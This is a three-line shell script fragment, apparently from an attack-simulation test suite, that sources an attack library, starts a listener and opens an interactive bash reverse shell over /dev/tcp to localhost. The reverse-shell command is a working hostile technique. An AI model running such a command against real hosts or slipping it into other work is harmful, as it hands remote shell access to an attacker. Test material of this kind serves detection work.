. "$ATTACKS/lib.sh"
listen
bash -c "bash -i >&/dev/tcp/127.0.0.1/$port 0>&1" || true
